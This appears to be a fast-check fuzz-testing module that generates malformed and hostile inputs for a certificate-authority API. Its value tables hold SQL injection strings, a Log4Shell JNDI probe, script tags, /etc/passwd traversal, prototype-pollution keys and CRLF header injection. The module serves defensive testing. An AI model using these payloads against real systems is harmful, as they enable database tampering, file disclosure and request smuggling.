/**
 * fast-check arbitraries for the API fuzz test (fuzz.test.ts): one per class of hostile input,
 * and the body mutations built from them. They know nothing of the app; the test composes them
 * into requests. In every `oneof` the harmless choice comes first, so shrinking walks to it.
 */
import fc from "fast-check";

/** `arb` in `percent` % of draws, else `fallback`; shrinks to `fallback`. */
export const sometimes = <T, U>(percent: number, arb: fc.Arbitrary<T>, fallback: U) =>
  fc.oneof(
    { withCrossShrink: true },
    { weight: 100 - percent, arbitrary: fc.constant(fallback) },
    { weight: percent, arbitrary: arb },
  );

/** A weighted choice; shrinking walks from any choice to the first (the harmless one). */
export const weighted = <T>(...choices: [number, fc.Arbitrary<T>][]) =>
  fc.oneof(
    { withCrossShrink: true },
    ...choices.map(([weight, arbitrary]) => ({ weight, arbitrary })),
  );

/** Strings that have broken parsers, databases, loggers and DN encoders before. */
// biome-ignore format: a table of values, packed by kind
export const NASTY_STRINGS: readonly string[] = [
  "", " ", "   padded   ", "\u0000", "a\u0000b", "\t\n\r", "line\nbreak", "\u001b[31mred\u001b[0m",
  "\u007f", "\u0085", "\u2028\u2029", "\u202eevil", "\u200b", "\ufeff", "e\u0301\u0301\u0301",
  "🎉🔐", "日本語のテキスト", "\ud800", "\udfff", "\ud800\udc00", "\uffff",
  "null", "undefined", "NaN", "-0", "true", "0x10", "1e309",
  "' OR '1'='1", "1; DROP TABLE access_tokens; --", "'); DELETE FROM certificate_authorities; --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal Log4Shell probe, not a template
  '" OR ""="', "%00", "%s%s%s%n", "${jndi:ldap://example.test/a}", "{{7*7}}",
  "<script>alert(1)</script>", "../../../../etc/passwd", "__proto__", "constructor", "\\",
  "\\u0000", "CN=evil,O=evil", "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n",
  "-----BEGIN CERTIFICATE REQUEST-----\n!!!!\n-----END CERTIFICATE REQUEST-----\n",
  "-----BEGIN PRIVATE KEY-----\n-----END PRIVATE KEY-----",
  "*.example.test", "*", "**.example.test", "2030-02-31", "9999-12-31T23:59:59Z", "0000-01-01",
  "1970-01-01T00:00:00Z", "2030-01-01T00:00:00+99:99", "1y", "0s", "-5d", "999999999999999999999d",
  "1e3d", "RSA_4096x", "rsa_2048", "admin", "127.0.0.1", "::1", "999.999.999.999",
  "spiffe://example.test/../x",
];

/** C0 and C1 controls, NUL first: Postgres text cannot hold it at all. */
const CONTROL_CHARACTERS = ["\u0000", "\u0001", "\u0008", "\u001b", "\u001f", "\u007f", "\u0085"];
const controlCharacter = fc.constantFrom(...CONTROL_CHARACTERS, "\n", "\r\n");
const nasty = fc.constantFrom(...NASTY_STRINGS);
/** Any code point (astral too), a lone surrogate half, or a control character. */
const anyCharacter = fc.oneof(
  fc.string({ unit: "binary", minLength: 1, maxLength: 1 }),
  fc.integer({ min: 0xd800, max: 0xdfff }).map((unit) => String.fromCharCode(unit)),
  controlCharacter,
);

/** Any string a client could put in a JSON field, biased to the ones that broke things. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  nasty,
  fc.string({ maxLength: 40 }),
  fc.string({ unit: anyCharacter, minLength: 1, maxLength: 40 }),
  fc
    .tuple(
      fc.constantFrom("a", "é", "🔐", "\u0000", "x "),
      fc.integer({ min: 10_000, max: 20_000 }),
    )
    .map(([unit, n]) => unit.repeat(n)),
  fc.tuple(nasty, anyCharacter, nasty).map((parts) => parts.join("")),
  controlCharacter.map((c) => `fuzz${c}value`),
  fc
    .tuple(fc.constantFrom(..."abcdefghijklmnopqrstuvwxyz"), fc.integer({ min: 1, max: 200 }))
    .map(([c, n]) => c.repeat(n)),
);

const ODD_NUMBERS = [0, -0, -1, 1.5, -2, 2 ** 31, 2 ** 53 + 1, 1e308, -1e308, 5e-324, 17];
const number = fc.oneof(
  fc.constantFrom(...ODD_NUMBERS, Number.MAX_SAFE_INTEGER, Number.MIN_SAFE_INTEGER),
  fc.integer({ min: -1000, max: 1000 }),
  fc.double(),
);

/** Keys no request schema declares: every body schema is strict, so each is a 422. */
// biome-ignore format: a table of values, packed by kind
export const UNKNOWN_KEYS: readonly string[] = [
  "colour", "isAdmin", "id", "createdAt", "tokenHash", "__proto__", "constructor",
  "prototype", "", " ", "a.b", "$where", "\u0000", "🔑", "x".repeat(10_000),
];
const jsonKey = fc.oneof(
  fc.constantFrom(...UNKNOWN_KEYS),
  hostileString.map((s) => s.slice(0, 50)),
);

/** Any JSON value, of any type, nested a little. */
export const jsonValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { maxDepth: 3, depthIdentifier: "json" },
    fc.constant(null),
    fc.boolean(),
    number,
    hostileString,
    fc.array(tie("value"), { maxLength: 5, depthIdentifier: "json" }),
    fc.dictionary(jsonKey, tie("value"), { maxKeys: 5, depthIdentifier: "json" }),
  ),
})).value;

/** The JSON type of a value, to make sure a "retyped" field really changed type. */
export function jsonType(value: unknown): string {
  if (value === null) return "null";
  if (Array.isArray(value)) return "array";
  return typeof value;
}

const ANY_TYPE = [null, true, false, 0, -1, 1.5, 1e308, "", "text", [], [1, "a"], {}, { a: 1 }];
/** A value whose JSON type differs from `original`'s. */
export const otherTypeThan = (original: unknown) =>
  fc
    .oneof(fc.constantFrom(...ANY_TYPE), hostileString)
    .filter((v) => jsonType(v) !== jsonType(original));

/** JSON text that no parser should accept. */
// biome-ignore format: a table of values, packed by kind
export const BROKEN_JSON: readonly string[] = [
  "{", "}", "[", "{]", '{"a":', '{"a":1,}', "{'a':1}", '{"a":01}', '{"a":1}{"b":2}',
  '{"a":1} trailing', '"unterminated', "[1,2", '{"a" 1}', "{a:1}", "NaN", "Infinity",
  "undefined", "\u0000", "\ufeff{}", '{"a":"\u0000"}', '{"a":"\\x41"}', '{"a":"\\u12"}',
  '{"a":tru}', "{\n", "[".repeat(100), '{"a":1', "<xml/>", "type=root&commonName=x",
];

/** Valid JSON text, damaged: cut short, a stray character, or a swapped quote. */
export const corrupted = (text: string) =>
  fc
    .tuple(
      fc.integer({ min: 1, max: Math.max(1, text.length - 1) }),
      fc.constantFrom("cut", "{", "]", '"', ",", ":", "\\", "quote"),
    )
    .map(([at, how]) => {
      if (how === "cut") return text.slice(0, at);
      if (how === "quote") return text.replace('"', "'");
      return `${text.slice(0, at)}${how}${text.slice(at)}`;
    });

/** JSON text nested `depth` levels; built as text so neither side recurses to build it. */
export function deepJson(kind: "array" | "object", depth: number): string {
  return kind === "array"
    ? `${"[".repeat(depth)}${"]".repeat(depth)}`
    : `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`;
}

/** Valid JSON text of `base` with one more member appended, as raw text. */
export function withMember(base: Record<string, unknown>, key: string, valueText: string): string {
  const text = JSON.stringify(base);
  const sep = text === "{}" ? "" : ",";
  return `${text.slice(0, -1)}${sep}${JSON.stringify(key)}:${valueText}}`;
}

/** Damaged PEM: parsers of certificates and CSRs must refuse each with a 400. */
export function damagedPems(pem: string): string[] {
  const lines = pem.trim().split("\n");
  const [head, tail] = [lines[0], lines.at(-1)];
  const body = lines.slice(1, -1).join("\n");
  const at = Math.floor(body.length / 2);
  const flipped = `${body.slice(0, at)}${body[at] === "A" ? "B" : "A"}${body.slice(at + 1)}`;
  const wrap = (inner: string) => `${head}\n${inner}\n${tail}\n`;
  return [
    pem.slice(0, Math.floor(pem.length / 2)),
    wrap(body.slice(0, Math.floor(body.length / 3))),
    wrap(flipped),
    wrap(Buffer.alloc(300, 0x30).toString("base64")),
    wrap(Buffer.from([0x30, 0x84, 0xff, 0xff, 0xff, 0xff]).toString("base64")),
    wrap("!!!not base64!!!"),
    `${head}\n${tail}\n`,
    pem.replace(/-----(BEGIN|END) [A-Z ]+-----/g, "-----$1 PRIVATE KEY-----"),
    `${pem}${pem}`,
    pem.replaceAll("\n", "\r\n"),
  ];
}

/** Values every string field gets once (the sweep), whatever its meaning. */
export const SWEEP_VALUES: readonly string[] = [
  "a\u0000b",
  "\ud800x",
  "x".repeat(10_001),
  "1'; DROP TABLE certificate_profiles; --",
  "\u202e\u0007bell",
];

/** Every string leaf of a JSON value, as a path of keys and indexes. */
export function stringLeaves(
  value: unknown,
  path: (string | number)[] = [],
): (string | number)[][] {
  if (typeof value === "string") return [path];
  if (Array.isArray(value)) return value.flatMap((v, i) => stringLeaves(v, [...path, i]));
  if (value && typeof value === "object") {
    return Object.entries(value).flatMap(([k, v]) => stringLeaves(v, [...path, k]));
  }
  return [];
}

/** A deep copy of `value` with the leaf at `path` replaced. */
export function replaceLeaf(value: unknown, path: (string | number)[], leaf: unknown): unknown {
  const [head, ...rest] = path;
  if (head === undefined) return leaf;
  const copy = (Array.isArray(value) ? [...value] : { ...(value as object) }) as Record<
    string | number,
    unknown
  >;
  copy[head] = replaceLeaf(copy[head], rest, leaf);
  return copy;
}

/** Where the mutations of one JSON body start, and what its schema refuses for certain. */
export interface BodySource {
  label: string;
  /** Valid bodies; each value a fresh object. */
  valid: fc.Arbitrary<Record<string, unknown>>;
  required: boolean;
  /** Unknown keys are refused. */
  strict: boolean;
  /** The key's schema has exactly one JSON type, so another type is refused. */
  typed: (key: string) => boolean;
}

export interface FuzzBody {
  text: string;
  /** Why the API must refuse it whatever else is right; null when it may succeed. */
  malformed: string | null;
  note: string;
}

export const PEM_FIELDS = ["certificate", "certificateChain", "csr", "content"];

const parses = (text: string) => {
  try {
    JSON.parse(text);
    return true;
  } catch {
    return false;
  }
};

/**
 * A body for a JSON route: valid, or damaged in one of the ways that broke servers before.
 * "values" keeps the schema's shape (odd strings, damaged PEMs, duplicate or missing keys), so
 * most such bodies pass validation and reach the handler; "any" damages the shape too.
 */
export function fuzzBody(source: BodySource, kind: "values" | "any"): fc.Arbitrary<FuzzBody> {
  return source.valid.chain((base) => {
    const keys = Object.keys(base);
    const key = fc.constantFrom(...keys);
    const stringKeys = keys.filter((k) => typeof base[k] === "string");
    const pemKeys = keys.filter((k) => PEM_FIELDS.includes(k));
    const body = (text: string, malformed: string | null, note: string) => ({
      text,
      malformed,
      note,
    });
    const setTo = (k: string, value: unknown) => JSON.stringify({ ...base, [k]: value });
    const broken = source.required ? "broken JSON" : null;
    const notObject = "body is not an object";
    const valid = fc.constant(body(JSON.stringify(base), null, "valid body"));

    const wholeBody: [number, fc.Arbitrary<FuzzBody>][] = [
      [
        8,
        jsonValue.map((v) => {
          const isObject = jsonType(v) === "object";
          return body(JSON.stringify(v), isObject ? null : notObject, `random ${jsonType(v)}`);
        }),
      ],
      [
        4,
        fc
          .constantFrom("null", "[]", "0", '"text"', "true", JSON.stringify([base]))
          .map((text) => body(text, notObject, "non-object body")),
      ],
      [
        10,
        fc
          .oneof(fc.constantFrom(...BROKEN_JSON), corrupted(JSON.stringify(base)))
          // A stray character can land inside a string and leave the JSON valid.
          .map((text) => body(text, parses(text) ? null : broken, "broken JSON")),
      ],
      [5, fc.constantFrom("", " ", "\n").map((text) => body(text, broken, "empty body"))],
    ];
    if (keys.length === 0) {
      return kind === "values" ? valid : weighted([1, valid], ...wholeBody);
    }

    const field: [number, fc.Arbitrary<FuzzBody>][] = [
      [
        8,
        key.map((k) => {
          const { [k]: _dropped, ...rest } = base;
          return body(JSON.stringify(rest), null, `dropped ${k}`);
        }),
      ],
      [
        // JSON.parse keeps the last duplicate: first the random value wins, then the real one.
        6,
        fc.tuple(key, jsonValue, fc.boolean()).map(([k, v, last]) => {
          const junk = JSON.stringify(v);
          const text = last
            ? withMember(base, k, junk)
            : `{${JSON.stringify(k)}:${junk},${JSON.stringify(base).slice(1)}`;
          return body(text, null, `duplicated ${k} (junk ${last ? "last" : "first"})`);
        }),
      ],
      [
        12,
        key.chain((k) =>
          otherTypeThan(base[k]).map((v) =>
            body(setTo(k, v), source.typed(k) ? `${k} retyped` : null, `retyped ${k}`),
          ),
        ),
      ],
      [
        10,
        fc.tuple(fc.constantFrom(...UNKNOWN_KEYS), jsonValue).map(([k, v]) => {
          const note = `unknown key ${JSON.stringify(k.slice(0, 20))}`;
          return body(
            withMember(base, k, JSON.stringify(v)),
            source.strict ? "unknown key" : null,
            note,
          );
        }),
      ],
      [
        10,
        fc
          .tuple(stringKeys.length > 0 ? fc.constantFrom(...stringKeys) : key, hostileString)
          .map(([k, s]) => body(setTo(k, s), null, `odd string in ${k}`)),
      ],
      [
        3,
        (pemKeys.length > 0 ? fc.constantFrom(...pemKeys) : key).chain((k) =>
          fc
            .constantFrom(...damagedPems(String(base[k])))
            .map((pem) => body(setTo(k, pem), null, `damaged PEM in ${k}`)),
        ),
      ],
      [
        3,
        fc.tuple(key, jsonValue).map(([k, v]) => body(setTo(k, v), null, `random value in ${k}`)),
      ],
      [
        // The right keys, every value of another JSON type than the schema's.
        7,
        fc.tuple(...keys.map((k) => otherTypeThan(base[k]))).map((values) => {
          const retyped = Object.fromEntries(keys.map((k, i) => [k, values[i]]));
          const malformed = keys.some(source.typed) ? "every field retyped" : null;
          return body(JSON.stringify(retyped), malformed, "right keys, wrong types");
        }),
      ],
      [
        8,
        fc
          .tuple(
            key,
            fc.integer({ min: 20, max: 300 }),
            fc.constantFrom("array", "object") as fc.Arbitrary<"array" | "object">,
          )
          .map(([k, depth, kind]) =>
            body(withMember(base, k, deepJson(kind, depth)), null, `${k} nested ${depth} deep`),
          ),
      ],
    ];
    const [dropped, duplicated, retyped, unknownKey, oddString, damagedPem, ...shape] = field;
    const values = [dropped, duplicated, oddString, damagedPem].filter((a) => a !== undefined);
    if (kind === "values") {
      return weighted([40, valid], ...values);
    }
    const damaged = [retyped, unknownKey, ...shape].filter((a) => a !== undefined);
    return weighted([6, valid], ...values, ...damaged, ...wholeBody);
  });
}

/** Header values must be ByteStrings (Latin-1, no CR/LF/NUL) or fetch itself throws. */
export function isSendableHeaderValue(value: string): boolean {
  return !/[^\t\x20-\x7e\x80-\xff]/.test(value);
}

// biome-ignore format: a table of values, packed by kind
export const CONTENT_TYPES_JSON: readonly string[] = [
  "application/json; charset=utf-8", "APPLICATION/JSON", "application/vnd.api+json",
  "application/json-patch+json", "application/json; charset=latin1", "application/json;;;",
];

/** Types the API refuses for a body (it only accepts JSON). */
// biome-ignore format: a table of values, packed by kind
export const CONTENT_TYPES_WRONG: readonly string[] = [
  "text/plain", "text/json", "text/html; charset=utf-8", "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=----x", "application/xml", "application/jsonx",
  "application/octet-stream", "*/*", "json", "application/", ";", "a".repeat(8_000),
];

// biome-ignore format: a table of values, packed by kind
export const ACCEPTS: readonly string[] = [
  "*/*", "application/json", "application/x-pem-file", "text/plain", "text/html",
  "application/xml", "application/json;q=0, text/plain", "text/plain, application/json",
  "image/png", ";;;,,,", "*/*;q=abc", "a".repeat(8_000),
];

// biome-ignore format: a table of values, packed by kind
export const IDEMPOTENCY_KEYS: readonly string[] = [
  "key with spaces", " leading", "trailing ", "\ttab", "clé", "a".repeat(255), "a".repeat(256),
  "k".repeat(10_000), "%00", "' OR 1=1 --", "fuzz-fixed-key-1", "fuzz-fixed-key-2",
];

/** Values a client might put in X-Request-Id; only safe ones may be echoed back. */
export const REQUEST_IDS = [
  "client-chosen-id",
  "a".repeat(300),
  "has spaces",
  "<script>",
  "idé",
  "==",
];

export const JUNK_HEADERS: readonly Record<string, string>[] = [
  { "x-forwarded-for": "1.1.1.1, <script>" },
  { "x-http-method-override": "DELETE" },
  { origin: "http://evil.example" },
  { cookie: "session=' OR 1=1 --" },
  { "content-encoding": "gzip" },
  { "transfer-encoding": "chunked" },
  { "if-none-match": "*" },
  { range: "bytes=0-0" },
  { "x-custom": "\u00ff".repeat(4_000) },
];

/** Path segments the routes must refuse (never a real resource). */
// biome-ignore format: a table of values, packed by kind
export const JUNK_SEGMENTS: readonly string[] = [
  "123", "0", "-1", "null", "undefined", "true", "1e10", "00000000-0000-0000-0000-000000000000",
  "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF", "3c90c3cc0d444b5088888dd25736052a",
  "{3c90c3cc-0d44-4b50-8888-8dd25736052a}", "3c90c3cc-0d44-4b50-8888-8dd25736052ax",
  "3c90c3cc-0d44-4b50-8888-8dd25736052", "g0000000-0000-0000-0000-000000000000", "cert_",
  "cert_00000000000000000000000000000000", "cert_zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz",
  "ab:cd:ef", "7fffffffffffffffffffffffffffffffffffffff", "f".repeat(41),
  "%27%20OR%20%271%27%3D%271", "1%3B%20DROP%20TABLE%20access_tokens%3B%20--",
  "%27%29%3B%20DELETE%20FROM%20certificate_profiles%3B--", "%", "%ZZ", "%E0%A4%A", "%C0%AF",
  "%C0%80", "%00", "%00abc", "%u0041", "%F0%9F%92%A9", "%ED%A0%80", "%25", "%%%", "%2F",
  "%0d%0aSet-Cookie:%20x=1", "a%2Fb", "a%20b", "%7B%7D", "a".repeat(65), "a".repeat(10_000),
  "%41".repeat(5_000), "~", "*", "$", ";", "@", ",",
];

/** Segments the URL parser resolves (dot segments): they may land on another real route. */
export const TRAVERSAL_SEGMENTS = [".", "..", "%2e", "%2e%2e", ".%2E", "..%2F..%2Fetc%2Fpasswd"];

const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g;

/** encodeURIComponent throws on lone surrogates; a real client would send U+FFFD instead. */
export const encodeSegment = (value: string) =>
  encodeURIComponent(value.replace(LONE_SURROGATE, "\ufffd"));

const hex = (length: number) =>
  fc.string({ unit: fc.constantFrom(..."0123456789abcdef"), minLength: length, maxLength: length });

/** A path segment that names nothing: junk, a random UUID, a random serial, any string. */
export const junkSegment: fc.Arbitrary<string> = fc.oneof(
  { weight: 2, arbitrary: fc.constantFrom(...JUNK_SEGMENTS) },
  fc.uuid({ version: 4 }),
  hex(40),
  hostileString.map((s) => encodeSegment(s.slice(0, 200)) || "x"),
);

// biome-ignore format: a table of values, packed by kind
export const QUERIES: readonly string[] = [
  "?include[]=content", "?include=content&include[]=content&include[]=nothing", "?include[]=",
  `?include[]=${"c".repeat(10_000)}`, "?a=%ZZ&b=%", `?${"x=1&".repeat(2_000)}`,
  "?__proto__[admin]=true&constructor[prototype][x]=1", "?limit=-1&offset=99999999999999999999",
  "?%00=%00", "?", "?&&&=&=",
];

export const QUERY_VALUES = [
  "-1",
  "0",
  "abc",
  "1e999",
  "%ZZ",
  "' OR 1=1 --",
  "x".repeat(5_000),
  "",
];

/** Bytes a DER parser must survive, as a binary string (one char per byte). */
export const binaryBody: fc.Arbitrary<string> = fc.oneof(
  fc.constant(""),
  fc.constant(String.fromCharCode(0x30, 0x84, 0xff, 0xff, 0xff, 0xff)),
  fc.constant("0".repeat(64)),
  fc.uint8Array({ minLength: 1, maxLength: 512 }).map((bytes) => String.fromCharCode(...bytes)),
);

/**
 * An element of a round that shrinks first to `undefined` (left out): shrinking a failed round
 * drops the requests that do not matter in one step each, then shrinks the ones that do.
 */
export class Droppable<T> extends fc.Arbitrary<T | undefined> {
  constructor(private readonly arb: fc.Arbitrary<T>) {
    super();
  }
  generate(mrng: fc.Random, bias: number | undefined): fc.Value<T | undefined> {
    return this.arb.generate(mrng, bias);
  }
  canShrinkWithoutContext(value: unknown): value is T | undefined {
    return value === undefined || this.arb.canShrinkWithoutContext(value);
  }
  shrink(value: T | undefined, context: unknown): fc.Stream<fc.Value<T | undefined>> {
    if (value === undefined) return fc.Stream.nil();
    const dropped = new fc.Value<T | undefined>(undefined, undefined);
    return fc.Stream.of(dropped).join(this.arb.shrink(value, context));
  }
}
